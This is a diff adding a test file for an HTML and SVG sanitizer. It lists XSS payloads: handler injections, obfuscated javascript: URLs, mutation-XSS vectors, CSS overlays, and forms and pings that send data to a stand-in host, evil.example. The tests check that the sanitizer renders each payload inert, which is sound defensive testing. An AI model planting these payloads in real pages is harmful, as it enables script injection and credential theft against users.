@@ -1,0 +1,203 @@
+import { readFileSync } from 'node:fs';
+import { JSDOM } from 'jsdom';
+import katex from 'katex';
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { assertInert, normalizeHtml, parseHtml } from './fixtures/markdown/assert-inert.js';
+import { isSafeUrl, sanitizeHtml, sanitizeSvg } from './sanitize.js';
+
+const fixture = (name: string) => readFileSync(new URL(`./fixtures/markdown/${name}`, import.meta.url), 'utf8');
+
+const HOSTILE: ReadonlyArray<readonly [string, string]> = [
+  ['script', '<p>ok</p><script>alert(1)</script>'],
+  ['img onerror', '<img src=x onerror=alert(1)>'],
+  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
+  ['javascript: with a tab entity', '<a href="java&#x09;script:alert(1)">x</a>'],
+  ['javascript: with newline and case', '<a href="  JaVa&#10;ScRiPt:alert(1)">x</a>'],
+  ['vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
+  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+  ['form action', '<form action="https://evil.example/steal"><input name="pw"><button formaction="javascript:alert(1)">go</button></form>'],
+  ['base href', '<base href="https://evil.example/">'],
+  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ['svg onload', '<svg onload="alert(1)"><circle r="5"/></svg>'],
+  ['svg script', '<svg><script>alert(1)</script></svg>'],
+  ['mXSS mglyph/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
+  ['mXSS comment in style', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'],
+  ['mXSS noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
+  ['data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
+  ['data:image/svg+xml link', '<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">x</a>'],
+  ['style overlay', '<style>body{display:none} *{position:fixed}</style><p>text</p>'],
+  ['style attribute overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">pay here</div>'],
+  ['css expression', '<div style="width:expression(alert(1))">x</div><div style="background:url(javascript:alert(1))">y</div>'],
+  ['object/embed/applet', '<object data="x.swf"></object><embed src="x.swf"><applet code="X"></applet>'],
+  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
+  ['template', '<template><img src=x onerror=alert(1)></template>'],
+  ['video poster', '<video src="https://example.org/v.mp4" poster="javascript:alert(1)" controls></video>'],
+  ['srcset', '<img srcset="a.png 1x, javascript:alert(1) 2x">'],
+  ['ping', '<a href="https://example.org" ping="https://evil.example/track">x</a>'],
+  ['unbalanced end tags', '</div></section></main><p>escape</p>'],
+  ['katex-html svg spoof', '<span class="katex-html"><svg onload="alert(1)"><a href="javascript:alert(1)"><path d="M0 0"/></a><foreignObject><img src=x onerror=alert(1)></foreignObject><path d="M1 1"/></svg></span>'],
+  ['dialog', '<dialog open>fake</dialog>'],
+];
+
+test('sanitizeHtml: hostile inputs come out inert', () => {
+  for (const [name, input] of HOSTILE) {
+    const out = sanitizeHtml(input);
+    try {
+      assertInert(out, { allowKatexSvg: true });
+    } catch (error) {
+      throw new Error(`${name}: ${(error as Error).message}\n${out}`);
+    }
+  }
+});
+
+test('assertInert rejects every hostile input as written (so the test above can fail)', () => {
+  for (const [name, input] of HOSTILE) {
+    let failed = false;
+    try {
+      assertInert(input);
+    } catch {
+      failed = true;
+    }
+    assert.ok(failed, `${name} passed the check unsanitized`);
+  }
+});
+
+test('sanitizeHtml: what is removed and what is kept', () => {
+  assert.is(sanitizeHtml('<a href="javascript:alert(1)">x</a>'), '<a>x</a>');
+  assert.is(sanitizeHtml('<a href="java&#x09;script:alert(1)">x</a>'), '<a>x</a>');
+  assert.is(sanitizeHtml('<img src=x onerror=alert(1)>'), '<img src="x">');
+  assert.is(sanitizeHtml('<p>ok</p><script>alert(1)</script>'), '<p>ok</p>');
+  assert.is(sanitizeHtml('<style>body{display:none}</style><p>text</p>'), '<p>text</p>');
+  assert.is(sanitizeHtml('<svg onload="alert(1)"><circle r="5"/></svg>after'), 'after');
+  assert.is(sanitizeHtml('<div style="position:fixed;top:0">x</div>'), '<div style="position:static;top:0">x</div>');
+  assert.is(sanitizeHtml('<a href="data:text/html,x">x</a>'), '<a>x</a>');
+  assert.is(sanitizeHtml('<img src="data:image/svg+xml;base64,PHN2Zz4=">'), '<img>');
+  assert.is(sanitizeHtml('<img src="data:image/png;base64,iVBORw0KGgo=">'), '<img src="data:image/png;base64,iVBORw0KGgo=">');
+  const kept = '<a href="mailto:a@example.org">m</a><a href="#sec">h</a><a href="../other.html?x=1">r</a><a href="https://example.org/">e</a>';
+  assert.is(sanitizeHtml(kept), kept);
+});
+
+test('sanitizeHtml: target=_blank gets rel=noopener noreferrer; other targets go', () => {
+  const out = parseHtml(sanitizeHtml('<a href="https://example.org" target="_blank" rel="nofollow">x</a><a href="https://example.org" target="other">y</a>'));
+  const [blank, other] = Array.from(out.querySelectorAll('a'));
+  assert.is(blank?.getAttribute('target'), '_blank');
+  assert.equal(blank?.getAttribute('rel')?.split(' ').sort(), ['nofollow', 'noopener', 'noreferrer']);
+  assert.is(other?.hasAttribute('target'), false);
+});
+
+test('sanitizeHtml: details, images, ids and classes survive; clobbering names on images do not', () => {
+  const html = '<details open=""><summary>More</summary><p id="intro" class="lead">x</p></details><img src="a.png" alt="A" width="10" height="20" loading="lazy">';
+  assert.is(sanitizeHtml(html), html);
+  const out = sanitizeHtml('<img src="a.png" id="getElementById" name="cookie"><h2 id="images">Images</h2><a name="old-anchor"></a>');
+  assert.is(out, '<img src="a.png"><h2 id="images">Images</h2><a name="old-anchor"></a>');
+});
+
+test('sanitizeHtml: a real pandas DataFrame keeps its table markup and look', () => {
+  const out = sanitizeHtml(fixture('dataframe.html'));
+  const el = parseHtml(out);
+  const table = el.querySelector('table.dataframe');
+  assert.ok(table, 'table.dataframe');
+  assert.is(table?.getAttribute('border'), '1');
+  assert.is(el.querySelectorAll('thead th').length, 4);
+  assert.is(el.querySelectorAll('tbody tr').length, 3);
+  assert.is(el.querySelector('thead tr')?.getAttribute('style'), 'text-align: right;');
+  assert.is(el.querySelector('tbody td')?.textContent, 'a<b');
+  assert.not.ok(el.querySelector('style'), 'the scoped <style> is dropped');
+  assertInert(out);
+});
+
+/** A 100 KB table made of the rows of the real DataFrame fixture. */
+function bigTable(): string {
+  const small = fixture('dataframe.html');
+  const rows = /<tbody>([\s\S]*)<\/tbody>/.exec(small)?.[1] ?? '';
+  let body = '';
+  while (body.length < 100_000) body += rows;
+  return small.replace(/<tbody>[\s\S]*<\/tbody>/, `<tbody>${body}</tbody>`).replace('</table>', '</table>\n<p>900 rows × 3 columns</p>');
+}
+
+test('sanitizeHtml: a 100 KB table takes milliseconds, with the same result as the full sanitizer', () => {
+  const html = bigTable();
+  sanitizeHtml('<p>warm up</p>');
+  const start = performance.now();
+  const fast = sanitizeHtml(html);
+  const elapsed = performance.now() - start;
+  assert.ok(elapsed < 60, `took ${elapsed.toFixed(1)} ms`);
+  // A comment is something the table fast path does not take: this goes through DOMPurify.
+  const full = sanitizeHtml(`${html}<!-- c -->`);
+  assert.is(normalizeHtml(fast), full);
+  assert.ok(parseHtml(fast).querySelectorAll('tbody tr').length > 500);
+});
+
+test('sanitizeHtml: tables with anything unusual go through DOMPurify', () => {
+  const out = sanitizeHtml('<table><tr><td onclick="alert(1)" style="color:red">x</td></tr></table><p>a<img src=x onerror=alert(1)></p>');
+  assert.not.match(out, /onclick|onerror/);
+  assert.match(out, /<td style="color:red">x<\/td>/);
+  const misnested = sanitizeHtml('<table><tr><td>a</tr></td></table></div><b>b');
+  assertInert(misnested);
+  assert.is(sanitizeHtml('<td>a &amp; b & c > d</td>'), 'a &amp; b &amp; c &gt; d');
+});
+
+test('sanitizeHtml: KaTeX output (HTML, MathML and its SVG) survives unchanged', () => {
+  const formulas = ['\\sqrt{x^2+1}', '\\frac{a}{b}', '\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}', '\\overrightarrow{AB}', '\\widehat{xyz}', '\\cancel{x}', '\\color{red}{x}', '\\xrightarrow{abc}', '\\boxed{x}', '\\underbrace{a+b}_{c}', '\\begin{cases}a&b\\\\c&d\\end{cases}', '\\text{hi } \\mathbb{R}'];
+  for (const tex of formulas) {
+    for (const displayMode of [false, true]) {
+      const html = katex.renderToString(tex, { displayMode, output: 'htmlAndMathml', throwOnError: false, trust: false, strict: 'ignore' });
+      const out = sanitizeHtml(html);
+      assert.is(out, normalizeHtml(html), tex);
+      assertInert(out, { allowKatexSvg: true });
+    }
+  }
+  const sqrt = parseHtml(sanitizeHtml(katex.renderToString('\\sqrt{x}')));
+  assert.ok(sqrt.querySelector('.katex-html svg path'), 'the radical sign (SVG path) is kept');
+  assert.ok(sqrt.querySelector('math semantics annotation'), 'the MathML with its TeX annotation is kept');
+});
+
+test('isSafeUrl: schemes by kind', () => {
+  assert.ok(isSafeUrl('https://example.org', 'link'));
+  assert.ok(isSafeUrl('images/a b.png', 'link'));
+  assert.ok(isSafeUrl('#frag', 'fragment'));
+  assert.not.ok(isSafeUrl('java\tscript:alert(1)', 'link'));
+  assert.not.ok(isSafeUrl('\u0001javascript:alert(1)', 'link'));
+  assert.not.ok(isSafeUrl('data:image/png;base64,AAAA', 'link'));
+  assert.ok(isSafeUrl('data:image/png;base64,AAAA', 'image'));
+  assert.not.ok(isSafeUrl('data:image/svg+xml;base64,AAAA', 'image'));
+  assert.not.ok(isSafeUrl('https://example.org/x.svg#a', 'fragment'));
+});
+
+test('sanitizeSvg: a real matplotlib SVG keeps its drawing and parses as a standalone XML file', () => {
+  const input = fixture('matplotlib.svg');
+  const out = sanitizeSvg(input);
+  assert.ok(out);
+  const doc = new JSDOM(out ?? '', { contentType: 'image/svg+xml' }).window.document;
+  const root = doc.documentElement;
+  assert.is(root.namespaceURI, 'http://www.w3.org/2000/svg');
+  assert.is(root.getAttribute('viewBox'), '0 0 144 108');
+  assert.is(doc.getElementsByTagName('parsererror').length, 0);
+  const count = (src: string, tag: string) => (src.match(new RegExp(`<${tag}[\\s>/]`, 'g')) ?? []).length;
+  for (const tag of ['path', 'use', 'g', 'image', 'clipPath', 'style']) assert.is(count(out ?? '', tag), count(input, tag), tag);
+  assert.match(out ?? '', /xlink:href="#[^"]+"/);
+  assert.match(out ?? '', /<image[^>]+xlink:href="data:image\/png;base64,/);
+});
+
+test('sanitizeSvg: script, foreignObject, handlers and outside references are removed', () => {
+  const evil = `<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
+    <script>alert(1)</script><foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></div></foreignObject>
+    <a xlink:href="javascript:alert(1)"><rect width="5" height="5" onclick="alert(1)"/></a><use href="https://evil.example/x.svg#a"/>
+    <image href="https://evil.example/track.png"/><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="xlink:href" to="javascript:alert(1)"/>
+    <style>@import url(https://evil.example/x.css); .a{fill:url(https://evil.example/y)} .b{fill:url(#ok)}</style>
+    <rect style="fill:url(https://evil.example/z)" fill="url(https://evil.example/w)" stroke="url(#grad)" width="1" height="1"/></svg>`;
+  const out = sanitizeSvg(evil) ?? '';
+  for (const bad of [/<script/i, /foreignObject/i, /\bon[a-z]+=/i, /javascript:/i, /evil\.example/, /@import/, /<animate\b/, /<set\b/]) assert.not.match(out, bad);
+  assert.match(out, /url\(#ok\)/);
+  assert.match(out, /stroke="url\(#grad\)"/);
+  assert.match(out, /^<svg xmlns="http:\/\/www.w3.org\/2000\/svg"/);
+});
+
+test('sanitizeSvg: undefined when no <svg> is left', () => {
+  assert.is(sanitizeSvg('<div>not svg</div>'), undefined);
+  assert.is(sanitizeSvg(''), undefined);
+  assert.is(sanitizeSvg('<script>alert(1)</script>'), undefined);
+});
+
+test.run();
